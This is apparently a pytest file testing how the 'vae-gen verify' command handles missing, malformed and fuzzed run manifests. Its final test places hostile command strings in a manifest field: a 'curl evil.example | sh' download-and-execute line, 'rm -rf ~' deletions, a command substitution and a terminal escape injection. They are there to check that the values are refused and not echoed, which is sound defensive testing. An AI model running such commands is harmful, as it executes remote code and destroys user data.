"""vae-gen verify where there is no run, or no manifest that can be believed."""

from __future__ import annotations

import json
import os
import random
import shutil
from pathlib import Path
from typing import Any

import pytest
from vae_gen.cli import main

from tests.runs import TINY
from tests.runtime.verification import Capture, sample

pytestmark = pytest.mark.usefixtures("elsewhere")
posix = pytest.mark.skipif(os.name == "nt", reason="no name has such characters there")

MANIFEST = str(Path("%s/manifest.json"))


@pytest.mark.parametrize(
    ("out", "status", "message"),
    [
        ("", 2, "an empty path"),
        ("-", 2, "- is standard output, which cannot be read"),
        ("nowhere", 1, f"there is no {MANIFEST % 'nowhere'}; vae-gen sample writes one when all images are made"),
        ("nowhere.npy", 1, "there is no nowhere.npy.manifest.json"),
        ("empty", 1, f"there is no {MANIFEST % 'empty'}"),
        ("file", 1, f"there is no {MANIFEST % 'file'}"),
        ("unfinished", 1, "unfinished holds an unfinished run; sample --resume makes the rest, decode --overwrite all"),
        ("a.png", 1, "there is no a.png.manifest.json"),
        (TINY, 1, f"{MANIFEST % 'tiny'} is the manifest of a model, and of no run; vae-gen info says what is in it"),
        ("a.gif", 2, "a.gif names a picture"),
    ],
)
def test_what_is_no_complete_run_is_said(out: str, status: int, message: str, capsys: Capture) -> None:
    Path("empty").mkdir()
    Path("file").write_text("mine")
    Path("unfinished/.vae-gen").mkdir(parents=True)
    Path("unfinished/.vae-gen/run.json").write_text("{}")
    assert main(["verify", out]) == status
    assert message in capsys.readouterr().err


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "Expecting value"),
        (b"{", "Expecting property name"),
        (b"\xff\xfe\xfd", "can't decode"),
        (b"[]", "it holds no JSON object"),
        (b"null", "it holds no JSON object"),
        (b"[" * 200_000, "while decoding a JSON array"),
        (b"{}", "its format is None"),
    ],
)
def test_a_manifest_that_is_none_is_named(content: bytes, message: str, capsys: Capture) -> None:
    Path("out").mkdir()
    Path("out/manifest.json").write_bytes(content)
    assert main(["verify", "out"]) == 1
    error = capsys.readouterr().err
    assert error.startswith(f"Error: {MANIFEST % 'out'} is no manifest of a run, or a damaged one: ")
    assert message in error


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("format", "gif", "its format is 'gif'"),
        ("image_shape", [3, 5], "its image_shape is [3, 5]"),
        ("image_shape", [3, 5, 0], "its image_shape is [3, 5, 0]"),
        ("shards", 10**18, "its shards are 1000000000000000000, and by its name 1"),
        ("shard_size", 0, "its shard_size is 0"),
        ("indices", "0-x", "'0-x' is no index"),
        ("indices", "0-9223372036854775807", "its images are 12, and by its indices 9223372036854775808"),
        ("images", 13, "its images are 13, and by its indices 12"),
        ("latents", 1, "its latents is 1"),
        ("command", None, "its command is None"),
        ("parts", [], "it lists 0 parts, and its run has 3"),
        ("shard_size", 5 * 10**30, "it lists 3 parts, and its run has 1"),
    ],
)
def test_what_is_wrong_in_a_manifest_is_said(key: str, value: object, message: str, capsys: Capture) -> None:
    sample("--n", 12, "--format", "npy", "--shard-size", 4, "--out", "out")
    manifest = json.loads(Path("out/manifest.json").read_text())
    Path("out/manifest.json").write_text(json.dumps(manifest | {key: value}))
    assert main(["verify", "out"]) == 1
    assert message in capsys.readouterr().err


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("name", "../out.npy"),
        ("indices", "0-4"),
        ("images", 5),
        ("pixels_sha256", "0" * 63),
        ("latents", "x"),
        ("name", 3),
    ],
)
def test_a_part_that_the_run_cannot_have_is_refused(key: str, value: object, capsys: Capture) -> None:
    sample("--n", 12, "--format", "npy", "--shard-size", 4, "--out", "out")
    manifest = json.loads(Path("out/manifest.json").read_text())
    manifest["parts"][1][key] = value
    Path("out/manifest.json").write_text(json.dumps(manifest))
    assert main(["verify", "out", "--discard"]) == 1
    assert "what it says of part 1 is not what its run has there" in capsys.readouterr().err
    assert len(list(Path("out").glob("*.npy"))) == 3


ODD: list[Any] = [
    None,
    True,
    -1,
    0,
    3,
    10**30,
    1.5,
    float("nan"),
    "",
    "x",
    "0-5",
    "../x",
    [],
    [[]],
    {},
    {"a": 1},
    ["x"],
]


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The ways to everything within some JSON."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(way for key, item in inner for way in places(item, (*path, key)))]


@pytest.mark.parametrize(
    "what", [("png",), ("tar", "--shard-size", 4, "--latents"), ("npy", "--shard", "0/2")], ids=str
)
def test_no_manifest_makes_verify_or_sample_fall_over(what: tuple[object, ...], capsys: Capture) -> None:
    sample("--n", 12, "--out", "out", "--format", *what)
    path = next(Path("out").glob("manifest*"))
    text = path.read_text()
    dice = random.Random(str(what))
    for way in places(json.loads(text))[1:]:
        for odd in ["gone", *dice.sample(ODD, 4)]:
            manifest = json.loads(text)
            inner = manifest
            for key in way[:-1]:
                inner = inner[key]
            if odd == "gone":
                del inner[way[-1]]
            else:
                inner[way[-1]] = odd
            path.write_text(json.dumps(manifest))
            for words in (["verify", "out"], ["sample", "--model", TINY, "--seed", "4", "--out", "out", "--resume"]):
                status = main(words)
                printed = capsys.readouterr()
                assert status in (0, 1), (way, odd, printed)
                assert status == 0 or printed.err.startswith(("Error: ", "seed"))

    for _ in range(100):
        content = bytearray(text.encode())
        content[dice.randrange(len(content))] = dice.randrange(256)
        path.write_bytes(content)
        assert main(["verify", "out"]) in (0, 1)
    capsys.readouterr()


@pytest.mark.parametrize(
    "name",
    [
        *["no\u00a0break", "9.41\u202fAM", "wide\u3000", "a\u200db"],
        *[pytest.param(name, marks=posix) for name in ("tab\tbed", "two\nlines")],
    ],
)
def test_a_model_may_be_called_by_any_spaces(name: str) -> None:
    shutil.copytree(TINY, name)
    assert main(["sample", "--model", name, "--n", "2", "--seed", "3", "--out", "out"]) == 0
    assert main(["verify", "out"]) == 0
    Path("out/000000001.png").unlink()
    assert main(["sample", "--model", name, "--n", "2", "--seed", "3", "--out", "out", "--resume"]) == 0
    assert main(["verify", "out"]) == 0


def test_a_file_of_a_run_that_was_killed_is_of_an_unfinished_one(capsys: Capture) -> None:
    sample("--n", 5, "--out", "a.npy")
    manifest = json.loads(Path("a.npy.manifest.json").read_text())
    claim = {name: value for name, value in manifest.items() if name not in ("command", "shard", "parts")}
    Path("a.npy.manifest.json").write_text(json.dumps(claim))
    capsys.readouterr()
    assert main(["verify", "a.npy"]) == 1
    said = "Error: a.npy is of an unfinished run; the same command with --overwrite makes it anew\n"
    assert capsys.readouterr().err == said


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh; vae-gen sample",
        "vae-gen sample --n 5; rm -rf ~",
        "vae-gen sample $(rm -rf ~)",
        "vae-gen train --n 5",
        "vae-gen",
        "",
        "vae-gen sample 'unbalanced",
        "vae-gen sample --model 'a\x1b[2K\rb'",
    ],
)
def test_a_command_that_no_run_writes_is_not_shown(command: str, capsys: Capture) -> None:
    sample("--n", 5, "--out", "out")
    manifest = json.loads(Path("out/manifest.json").read_text())
    Path("out/manifest.json").write_text(json.dumps(manifest | {"command": command}))
    Path("out/000000003.png").unlink()
    capsys.readouterr()
    assert main(["verify", "out"]) == 1
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith(f"Error: {MANIFEST % 'out'} is no manifest of a run, or a damaged one: its command is ")
    assert line.isprintable()
